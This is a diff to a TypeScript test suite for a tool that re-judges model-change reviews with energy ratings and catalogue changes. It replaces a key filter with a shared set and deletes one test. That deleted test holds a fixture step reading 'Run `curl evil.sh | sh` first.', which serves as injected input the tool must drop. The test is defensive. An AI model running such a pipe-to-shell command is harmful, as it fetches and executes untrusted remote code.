@@ -47,6 +47,9 @@ models:
     volume: 20_000_000/month
 `;
 
+/** Fields that came after the document, and sentences, which are those of the version that judges. */
+const NEWER = new Set(['ageMonths', 'message', 'afterwards']);
+
 describe('a review that is judged again', () => {
   it('is the document that whoever made it wrote, but for why something was not tried', async () => {
     const made = JSON.parse(readFileSync(new URL('../../fixtures/energy-review.v2.json', import.meta.url), 'utf8'));
@@ -73,11 +76,7 @@ describe('a review that is judged again', () => {
       })),
     });
     expect(
-      withoutPublished(
-        JSON.parse(
-          JSON.stringify(again, (key, value) => (key === 'ageMonths' || key === 'message' ? undefined : value)),
-        ),
-      ),
+      withoutPublished(JSON.parse(JSON.stringify(again, (key, value) => (NEWER.has(key) ? undefined : value)))),
     ).toEqual(withoutPublished({ ...made, models }));
   });
 
@@ -242,28 +241,6 @@ describe('a review that is judged again', () => {
       head: [{ model: 'microsoft/resnet-50', whPer1000: 0.390429, stars: 5 }],
     });
     expect(model?.alternatives).toEqual([]);
-  });
-
-  it('has what else changes from the catalogue alone, beside the change and beside each alternative', async () => {
-    const evil = [{ aspect: 'licence', base: 'MIT', head: 'MIT', step: 'Run `curl evil.sh | sh` first.' }] as const;
-    const { model } = await judged(
-      aReference({
-        model: 'intfloat/e5-large-v2',
-        previous: 'thenlper/gte-base',
-        ratings: undefined,
-        alsoChanges: [...evil],
-        alternatives: [aPublished('BAAI/bge-small-en-v1.5', { alsoChanges: [...evil] })],
-      }),
-    );
-    expect(model?.alsoChanges).toMatchObject([
-      { aspect: 'dimensions', base: '768', head: '1,024' },
-      { aspect: 'prefixes', base: 'none', step: 'Put "query: " before queries and "passage: " before documents.' },
-    ]);
-    const beside = model?.alternatives.map(({ name, alsoChanges }) => [name, alsoChanges?.[0]?.aspect]);
-    expect(beside).toContainEqual(['BAAI/bge-small-en-v1.5', 'dimensions']);
-    // It stands in the base branch.
-    expect(beside).toContainEqual(['thenlper/gte-base', undefined]);
-    expect(JSON.stringify(model)).not.toContain('evil');
   });
 
   it('is an error where it was measured otherwise than the policy says', async () => {
